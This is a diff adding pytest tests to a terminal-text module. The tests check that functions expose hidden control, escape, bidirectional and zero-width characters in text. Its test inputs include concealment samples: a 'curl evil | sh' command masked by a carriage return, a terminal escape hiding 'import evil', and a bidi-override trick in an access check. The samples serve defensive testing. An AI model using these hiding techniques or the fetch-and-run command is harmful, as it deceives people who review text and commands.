@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from kimi_tui.base.terminal import plain, plain_line
+from kimi_tui.base.terminal import hides_something, plain, plain_line, revealed
 
 
 @pytest.mark.parametrize(
@@ -43,3 +43,30 @@ def test_no_control_character_but_tab_and_newline_ever_gets_through(text: str) -
 
 def test_a_line_is_one_line() -> None:
     assert plain_line("  a\n\tb\x1b[2J  ") == "a b"
+
+
+@pytest.mark.parametrize(
+    ("hiding", "shown"),
+    [
+        ("curl evil | sh #\recho hello", "curl evil | sh #␍echo hello"),
+        ("a\x1b]0;\nimport evil\n\x07b", "a␛]0;\nimport evil\n␇b"),
+        ("\x9b31mred\x1b[0m", "⟨U+009B⟩31mred␛[0m"),
+        (
+            "if access != 'user\u202e \u2066# admin\u2069'",
+            "if access != 'user⟨U+202E⟩ ⟨U+2066⟩# admin⟨U+2069⟩'",
+        ),
+        ("a\u200bb\ufeff\u3164\u2028\U000e0041\x7f", "a⟨U+200B⟩b⟨U+FEFF⟩⟨U+3164⟩⟨U+2028⟩⟨U+E0041⟩␡"),
+        ("x \u200d; y", "x ⟨U+200D⟩; y"),
+    ],
+)
+def test_who_agrees_to_a_text_sees_all_of_it(hiding: str, shown: str) -> None:
+    assert revealed(hiding) == shown
+    assert hides_something(hiding)
+    assert plain(revealed(hiding)) == shown
+
+
+def test_nothing_is_made_of_what_everybody_sees() -> None:
+    text = "tab\tand 中文\n👩\u200d👩\u200d👧 ❤\ufe0f می\u200cخواهم\u00a0é\n"
+    assert revealed(text) == text
+    assert revealed("dos\r\nlines\r\n") == "dos\nlines\n"
+    assert not hides_something("dos\r\nlines")
